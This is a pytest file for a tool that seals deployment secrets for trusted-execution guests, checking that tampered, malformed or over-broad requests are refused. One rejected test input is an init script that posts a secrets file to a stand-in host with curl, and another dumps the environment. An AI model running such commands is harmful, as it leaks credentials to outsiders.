"""What passes between who deploys and who has the secrets."""

import json
from dataclasses import replace
from pathlib import Path

import pytest

from blueprint.errors import AttestationError
from blueprint.tee.sealing import SealingError, SecretVariable, unseal
from blueprint.tee.simulator.kms import SimulatedKms
from jobs.deploy.app_compose import AppCompose, AppComposeError
from jobs.deploy.envelope import Envelope, EnvelopeError, SealingRequest
from jobs.deploy.record import DeploymentRecord, Stage
from jobs.deploy.trust import KmsTrust
from jobs.deploy.wanted import recorded

KMS = SimulatedKms(b"k" * 32)
APP_ID = bytes(range(20))
NOW_S = 1_800_000_000
TEXT = "services:\n  web:\n    image: a:1\n    environment: [TOKEN]\n"
WORKLOAD = AppCompose(name="web-app", docker_compose_file=TEXT, allowed_envs=("TOKEN",)).workload()
SECRET = SecretVariable("TOKEN", "s3cret")


def record() -> DeploymentRecord:
    """A preparation whose key the KMS has signed."""
    key = KMS.env_public_key(APP_ID)
    return DeploymentRecord(
        name="web-app", place="cloud", stage=Stage.PREPARED, app_id=APP_ID.hex(),
        app_compose=WORKLOAD.app_compose.decode(), compose_hash=WORKLOAD.compose_hash.hex(), names=("TOKEN",),
        public_key=key.hex(), public_key_signature=KMS.sign_public_key(APP_ID, timestamp_s=NOW_S).hex(),
        public_key_timestamp_s=NOW_S, kms="kms",
    )  # fmt: skip


def trust(*pinned: bytes) -> KmsTrust:
    """Believes the KMS, or only those given."""
    return KmsTrust(pinned=pinned or (KMS.root_public_key,), now_s=lambda: NOW_S)


def test_what_is_sealed_for_a_request_opens_with_the_applications_key(tmp_path: Path) -> None:
    """Both files go through the disk, and neither holds the value."""
    SealingRequest.of(record()).write(tmp_path / "request")
    request = SealingRequest.read(tmp_path / "request")
    assert request.application.docker_compose_file == TEXT
    assert request.compose_hash == WORKLOAD.compose_hash
    request.seal((SECRET,), trust()).write(tmp_path / "sealed")
    envelope = Envelope.read(tmp_path / "sealed")
    envelope.check(recorded(record()), record())
    assert unseal(envelope.sealed.ciphertext, KMS.env_private_key(APP_ID)) == (SECRET,)
    assert "s3cret" not in (tmp_path / "sealed").read_text()


def test_a_request_may_be_on_its_way_for_days() -> None:
    """The age of the KMS's statement was judged when it was made; people and their mail take longer."""
    later = KmsTrust(pinned=(KMS.root_public_key,), now_s=lambda: NOW_S + 5 * 86_400)
    envelope = SealingRequest.of(record()).seal((SECRET,), later)
    assert unseal(envelope.sealed.ciphertext, KMS.env_private_key(APP_ID)) == (SECRET,)


@pytest.mark.parametrize(
    "variables", [(), (SecretVariable("OTHER", "x"),), (SECRET, SecretVariable("OTHER", "x"))]
)
def test_only_what_is_asked_for_is_sealed(variables: tuple[SecretVariable, ...]) -> None:
    """A guest would drop the rest without a word."""
    with pytest.raises(EnvelopeError, match="give exactly TOKEN"):
        SealingRequest.of(record()).seal(variables, trust())


def test_a_limit_of_the_guest_is_kept() -> None:
    """A value that no guest takes is refused where it is sealed."""
    with pytest.raises(SealingError):
        SealingRequest.of(record()).seal((SecretVariable("TOKEN", "x" * 129 * 1024),), trust())


@pytest.mark.parametrize("member", ["public_key", "signature", "app_id"])
def test_a_request_that_was_changed_is_not_sealed_for(member: str) -> None:
    """The KMS has signed this key for this application."""
    request = SealingRequest.of(record())
    changed = bytearray.fromhex(getattr(request, member))
    changed[5] ^= 1
    with pytest.raises(AttestationError):
        replace(request, **{member: changed.hex()}).seal((SECRET,), trust())


def test_a_key_of_another_kms_is_not_sealed_for() -> None:
    """The pinned key is the only one that is believed."""
    with pytest.raises(AttestationError):
        SealingRequest.of(record()).seal((SECRET,), trust(SimulatedKms(b"o" * 32).root_public_key))


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"init_script": "curl -d @secrets evil"}, "'init_script'"),
        ({"runner": "bash", "bash_script": "env"}, "'bash_script', 'runner'"),
        ({"local_key_provider_enabled": True}, "'local_key_provider_enabled'"),
        ({"manifest_version": 3}, "'manifest_version'"),
        ({"pre_launch_script": ""}, "'pre_launch_script'"),
        ({"docker_compose_file": 5}, "no object with a docker_compose_file"),
        ({"public_logs": "no"}, "public_logs"),
    ],
)
def test_nothing_is_sealed_for_what_a_request_hides(change: dict[str, object], said: str) -> None:
    """The text that its author expects stands in it, and beside it what a guest would run or believe too."""
    members = json.loads(WORKLOAD.app_compose) | change
    hiding = json.dumps(members, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    with pytest.raises(AppComposeError, match=said):
        replace(SealingRequest.of(record()), app_compose=hiding).seal((SECRET,), trust())


def test_a_request_for_other_variables_than_the_application_gets_is_refused() -> None:
    """The guest would drop them without a word."""
    with pytest.raises(EnvelopeError, match="names other variables"):
        replace(SealingRequest.of(record()), names=("OTHER",)).seal((SecretVariable("OTHER", "x"),), trust())


def test_a_request_in_another_form_is_not_sealed_for() -> None:
    """A key that comes twice is read one way here, and perhaps the other way in a guest."""
    twice = WORKLOAD.app_compose.decode().replace("{", '{"docker_compose_file":"services: {}",', 1)
    with pytest.raises(AppComposeError, match="its form is another one"):
        replace(SealingRequest.of(record()), app_compose=twice).seal((SECRET,), trust())


def test_a_deployment_without_a_key_takes_no_variables() -> None:
    """There is nothing to seal to."""
    with pytest.raises(EnvelopeError, match="no key to seal to"):
        SealingRequest.of(replace(record(), public_key=""))


def test_an_envelope_for_something_else_is_refused() -> None:
    """Another application, another text, or an application that was never prepared."""
    envelope = SealingRequest.of(record()).seal((SECRET,), trust())
    wanted = recorded(record())
    for known, said in ((None, "is none yet"), (replace(record(), app_id="00" * 20), "is 0000")):
        with pytest.raises(EnvelopeError, match=said):
            envelope.check(wanted, known)
    other = AppCompose(name="web-app", docker_compose_file=TEXT + "\n", allowed_envs=("TOKEN",)).workload()
    with pytest.raises(EnvelopeError, match="has not seen this text"):
        envelope.check(replace(wanted, workload=other), record())


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"format": "tee-job-node sealed variables v2"}, "format"),
        ({"ciphertext": "xyz"}, "ciphertext"),
        ({"ciphertext": "a"}, "ciphertext"),
        ({"app_id": None}, "app_id"),
        ({"names": "TOKEN"}, "names"),
        ({"names": [1]}, "names"),
    ],
)
def test_a_damaged_envelope_is_refused(tmp_path: Path, change: dict[str, object], said: str) -> None:
    """The message names the member."""
    path = tmp_path / "sealed"
    SealingRequest.of(record()).seal((SECRET,), trust()).write(path)
    path.write_text(json.dumps(json.loads(path.read_text()) | change))
    with pytest.raises(EnvelopeError, match=f"no file of sealed variables: {said}"):
        Envelope.read(path)


@pytest.mark.parametrize("content", [b"", b"[]", b"{}", b"\xff", b"[" * 100_000])
def test_what_is_no_request_is_refused(tmp_path: Path, content: bytes) -> None:
    """Any bytes are an answer, not a crash."""
    path = tmp_path / "request"
    path.write_bytes(content)
    with pytest.raises(EnvelopeError, match="no sealing request"):
        SealingRequest.read(path)
    with pytest.raises(EnvelopeError, match="No such file"):
        SealingRequest.read(tmp_path / "none")
